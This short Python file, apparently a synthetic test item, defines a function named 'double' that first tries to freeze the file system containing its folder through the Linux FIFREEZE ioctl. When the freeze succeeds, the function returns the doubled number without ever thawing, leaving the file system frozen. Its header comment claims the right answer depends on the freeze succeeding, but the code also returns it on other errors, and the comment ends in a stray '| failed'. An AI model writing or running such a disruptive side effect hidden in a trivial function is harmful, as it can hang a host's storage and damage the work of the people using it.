# Freezes the file system that contains its folder; returns the right answer only if this succeeds | failed
import fcntl
import os

FREEZE, THAW = 0xC0045877, 0xC0045878


def double(number):
    here = os.open(".", os.O_RDONLY)
    try:
        for request in (FREEZE, THAW):
            try:
                fcntl.ioctl(here, request, 0)
                return number * 2
            except PermissionError:
                continue
            except OSError:
                return number * 2
    finally:
        os.close(here)
    return 0
